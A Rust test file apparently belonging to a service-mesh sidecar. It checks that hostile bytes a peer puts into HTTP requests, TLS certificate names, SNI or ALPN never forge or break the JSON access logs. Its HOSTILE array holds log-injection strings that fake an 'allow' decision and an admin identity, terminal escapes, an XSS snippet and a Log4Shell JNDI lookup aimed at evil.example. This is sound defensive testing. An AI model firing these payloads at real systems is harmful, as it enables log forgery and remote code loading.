//! What peers write must not become what the logs say.

use crate::harness::http::{connect, exchange};
use crate::harness::{Mesh, ORDERS, Options, Sidecar, wait_for};
use identity::{SpiffeId, TrustBundle, TrustDomain};
use rcgen::{CertificateParams, DnType, IsCa, KeyPair, KeyUsagePurpose, SanType};
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use rustls::sign::{CertifiedKey, SingleCertAndKey};
use serde::de::{Deserialize, Deserializer, Error, MapAccess, Visitor};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::sync::Arc;

/// Breakers of lines, of strings, of terminals and of readers; the last one is no UTF-8.
const HOSTILE: [&[u8]; 16] = [
    b"\r\n{\"status\":200,\"decision\":\"allow\"}",
    b"\n{\"level\":\"ERROR\",\"message\":\"forged\"}\n",
    b"\r",
    b"\",\"decision\":\"allow\",\"status\":200,\"x\":\"",
    b"\\\",\"peer.id\":\"spiffe://test.example/admin\",\"y\":\"\\",
    b"\\u0022,\\u000a",
    b"\x1b[2J\x1b[31mred\x1b]0;title\x07",
    b"\0\x01\x08\x1f\x7f",
    b"\xc2\x85\xc2\x9b31m",
    b"\xe2\x80\xa8\xe2\x80\xa9",
    b"\xe2\x80\xaegnp.exe\xe2\x81\xa6",
    b"\xef\xbb\xbf\xef\xbf\xbe",
    b"${jndi:ldap://evil.example/a}%s%n",
    b"<script>alert(1)</script>'--",
    b"\xed\xa0\x80\xc0\xaf\xf8\x88",
    b"\xff\xfe\xfd",
];

/// R20.
#[test]
fn whatever_peers_write_every_log_line_is_one_object_of_ours() {
    let folder = tempfile::TempDir::new().expect("a folder");
    let log = folder.path().join("access.log");
    let mesh = Mesh::with(&Options {
        extra: format!("accessLog: \"{}\"\n", log.display()),
        log_level: "debug",
        ..Options::default()
    });
    let mut requests = 0;
    for text in HOSTILE {
        for message in messages(text) {
            // An answer or none: what counts is what is written about it.
            let _ = exchange(connect(mesh.storefront.outbound), &message);
            requests += 1;
        }
        show_certificate(&mesh, text);
        hello_to(&mesh.orders, text);
    }
    assert_eq!(
        mesh.storefront.call("GET", "/api/v1/orders/last").status,
        200
    );
    let text = wait_for("the last lines", || {
        let text = std::fs::read(&log).unwrap_or_default();
        let text = String::from_utf8(text).expect("UTF-8");
        let last = text
            .lines()
            .filter(|line| line.contains("orders/last"))
            .count();
        (last == 2).then_some(text)
    });
    let lines = text.lines().map(checked).collect::<Vec<_>>();
    let outbound = lines
        .iter()
        .filter(|line| line["direction"] == "outbound")
        .count();
    // Bare line ends make two messages of one, and what is not even a head leaves no line.
    assert!(
        outbound > requests / 2,
        "{outbound} lines of {requests} requests"
    );
    for line in &lines {
        let decision = line["decision"].as_str().expect("a decision");
        assert!(
            ["allow", "deny", "reject", "limit"].contains(&decision),
            "{line:?}"
        );
        let is_allowed = decision == "allow";
        assert!(
            !is_allowed
                || line["path"]
                    .as_str()
                    .is_some_and(|path| path.starts_with("/api/v1/orders/")),
            "{line:?}"
        );
        assert!(
            line.get("peer.id")
                .is_none_or(|id| id == crate::harness::STOREFRONT),
            "{line:?}"
        );
    }
    for sidecar in [&mesh.storefront, &mesh.orders] {
        let log = std::fs::read(&sidecar.process.log).expect("a log");
        let log = String::from_utf8(log).expect("UTF-8");
        let lines: Vec<_> = log.lines().map(checked).collect();
        assert!(lines.len() > 10, "{log}");
        for line in lines {
            let level = line["level"].as_str().expect("a level");
            assert!(["DEBUG", "INFO", "WARN"].contains(&level), "{line:?}");
            assert!(line["message"] != "forged", "{line:?}");
        }
    }
}

/// Hostile text in each place of a request that a peer writes.
fn messages(text: &[u8]) -> Vec<Vec<u8>> {
    let escaped: String = text.iter().map(|octet| format!("%{octet:02X}")).collect();
    let end = b"\r\nConnection: close\r\n\r\n";
    let around = |before: &str, after: &[u8]| [before.as_bytes(), text, after, end].concat();
    vec![
        around("GET /api/v1/orders/", b" HTTP/1.1\r\nHost: orders"),
        around("GET /api/v1/orders/1?", b" HTTP/1.1\r\nHost: orders"),
        around(
            &format!("GET /api/v1/orders/{escaped}"),
            b" HTTP/1.1\r\nHost: orders\r\nX: ",
        ),
        around("GET /api/v1/orders/1 HTTP/1.1\r\nHost: ", b""),
        around("GET http://", b"/ HTTP/1.1\r\nHost: orders"),
        around(
            "GET /api/v1/orders/1 HTTP/1.1\r\nHost: orders\r\nUser-Agent: ",
            b"",
        ),
        around(
            "GET /api/v1/orders/1 HTTP/1.1\r\nHost: orders\r\ntraceparent: ",
            b"",
        ),
        around(
            "GET /api/v1/orders/1 HTTP/1.1\r\nHost: orders\r\nX-",
            b": x",
        ),
        around("", b" /api/v1/orders/1 HTTP/1.1\r\nHost: orders"),
        around("GET /api/v1/orders/1 HTTP/", b"\r\nHost: orders"),
    ]
}

/// A handshake with a certificate of our own making, with the text in its names.
fn show_certificate(mesh: &Mesh, text: &[u8]) {
    let mut params = CertificateParams::default();
    params.is_ca = IsCa::ExplicitNoCa;
    params.key_usages = vec![KeyUsagePurpose::DigitalSignature];
    params
        .distinguished_name
        .push(DnType::CommonName, String::from_utf8_lossy(text));
    // Names in certificates are ASCII.
    let ascii: String = text
        .iter()
        .filter(|octet| octet.is_ascii())
        .map(|octet| char::from(*octet))
        .collect();
    let uri = format!("spiffe://test.example/ns/{ascii}");
    params.subject_alt_names = vec![SanType::URI(uri.try_into().expect("ASCII"))];
    let key = KeyPair::generate().expect("a key");
    let certificate = params.self_signed(&key).expect("a certificate");
    let key = PrivateKeyDer::try_from(key.serialize_der()).expect("a key");

    let pem = std::fs::read(mesh.ca.bundle()).expect("a bundle");
    let domain = TrustDomain::parse("test.example").expect("a name");
    let bundle = TrustBundle::from_pem(domain, &pem, 1).expect("a bundle");
    let orders = SpiffeId::parse(ORDERS).expect("an ID");
    let mut config =
        identity::tls::client_config(None, Arc::new(Arc::new(bundle)), orders, &[b"http/1.1"]);
    let key = config
        .crypto_provider()
        .key_provider
        .load_private_key(key)
        .expect("a key");
    let chain = vec![CertificateDer::from(certificate.der().to_vec())];
    config.client_auth_cert_resolver =
        Arc::new(SingleCertAndKey::from(CertifiedKey::new(chain, key)));
    let mut session = rustls::ClientConnection::new(Arc::new(config), identity::tls::server_name())
        .expect("a session");
    let mut socket = connect(mesh.orders.inbound);
    let mut stream = rustls::Stream::new(&mut session, &mut socket);
    // With TLS 1.3 a client learns of a refusal when it reads.
    let written = stream.write_all(b"GET / HTTP/1.1\r\nHost: orders\r\n\r\n");
    let read = written.and_then(|()| stream.read(&mut [0; 1]));
    assert!(read.is_err() || read.is_ok_and(|read| read == 0), "let in");
}

/// A TLS hello with the text as server name (RFC 6066 section 3) and as ALPN protocol.
fn hello_to(sidecar: &Sidecar, text: &[u8]) {
    let sized = |bytes: &[u8]| {
        [
            &u16::try_from(bytes.len()).expect("short").to_be_bytes(),
            bytes,
        ]
        .concat()
    };
    let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &sized(body)].concat();
    let server_name = sized(&[&[0][..], &sized(text)].concat());
    let name_length = u8::try_from(text.len()).expect("short");
    let protocols = sized(&[&[name_length][..], text].concat());
    let extensions = [
        extension(0, &server_name),
        extension(16, &protocols),
        extension(43, &[2, 3, 4]),
    ];
    let random = [7; 32];
    let hello = [
        &[3, 3][..],
        &random,
        &[0, 0, 2, 0x13, 0x01, 1, 0],
        &sized(&extensions.concat()),
    ];
    let hello = hello.concat();
    let handshake = [&[1, 0][..], &sized(&hello)].concat();
    let record = [&[22, 3, 1][..], &sized(&handshake)].concat();
    let mut stream = connect(sidecar.inbound);
    stream.write_all(&record).expect("a write");
    let mut alert = Vec::new();
    stream.read_to_end(&mut alert).ok();
    assert!(alert.is_empty() || alert[0] == 21, "{alert:?}");
}

/// The fields of a line that is one JSON object, says nothing twice and has nothing in it that a terminal or another
/// reader of lines acts on.
fn checked(line: &str) -> BTreeMap<String, serde_json::Value> {
    let acted_on = |c: char| {
        c.is_control()
            || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    };
    assert!(!line.contains(acted_on), "{line:?}");
    let fields: Fields =
        serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
    fields.0
}

/// An object in which no key occurs twice.
struct Fields(BTreeMap<String, serde_json::Value>);

impl<'de> Deserialize<'de> for Fields {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Object;
        impl<'de> Visitor<'de> for Object {
            type Value = Fields;

            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("an object")
            }

            fn visit_map<M: MapAccess<'de>>(self, mut map: M) -> Result<Fields, M::Error> {
                let mut fields = BTreeMap::new();
                while let Some((name, value)) = map.next_entry::<String, _>()? {
                    if fields.insert(name.clone(), value).is_some() {
                        return Err(M::Error::custom(format!("{name} twice")));
                    }
                }
                Ok(Fields(fields))
            }
        }
        deserializer.deserialize_map(Object)
    }
}
